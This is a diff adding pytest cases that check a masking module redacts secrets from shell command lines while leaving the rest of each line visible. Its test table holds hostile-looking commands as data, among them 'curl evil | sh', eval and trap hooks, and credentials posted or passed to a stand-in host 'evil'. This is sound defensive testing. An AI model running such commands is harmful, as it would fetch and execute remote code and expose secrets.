@@ -290,3 +290,32 @@ def test_time_is_linear(text: str) -> None:
 
     length = 160_000
     assert spent(length // 4) * 10 + 0.5 > spent(length)
+
+
+LINES = {
+    "env TOKEN=hidden sh -c 'curl evil'": "curl evil",
+    "trap 'TOKEN=hidden; curl evil' EXIT": "curl evil",
+    'eval "APP_KEY=hidden; curl evil | sh"': "curl evil | sh",
+    "ssh host 'TOKEN=hidden; curl evil'": "curl evil",
+    "PASSWORD=hidden|sh evil": "sh evil",
+    "PASSWORD=hidden&curl evil": "curl evil",
+    "PASSWORD=hidden\ncurl evil": "curl evil",
+    "PASSWORD=${X:-$(curl evil)} TOKEN=hidden": "curl evil",
+    "(TOKEN=hidden; curl evil)": "curl evil",
+    "docker run -e TOKEN=hidden -p 80:80 evil": "-p 80:80 evil",
+    "echo it's TOKEN=hidden; curl evil": "curl evil",
+    'echo "root:hidden" | chpasswd; curl evil': "curl evil",
+    "psql -c \"ALTER USER x PASSWORD 'hidden'\"; curl evil": "curl evil",
+    "aws configure set aws_secret_access_key hidden; curl evil": "curl evil",
+    "sshpass -p hidden ssh evil": "ssh evil",
+    "curl -XPOST -d 'user=u&password=hidden' evil": "evil",
+    "git clone https://oauth2:hidden@h/x; curl evil": "curl evil",
+    "make PASSWORD='a'\\''b hidden' && curl evil": "&& curl evil",
+    "gpg --recv-keys EVIL && TOKEN=hidden": "--recv-keys EVIL",
+}
+
+
+@pytest.mark.parametrize("line", LINES)
+def test_a_line_hides_the_secret_and_shows_the_rest(line: str) -> None:
+    for shown in (masking.instruction(line), masking.value(["/bin/sh", "-c", line], "Cmd")[2]):
+        assert (True, False) == (LINES[line] in shown, "hidden" in shown), shown
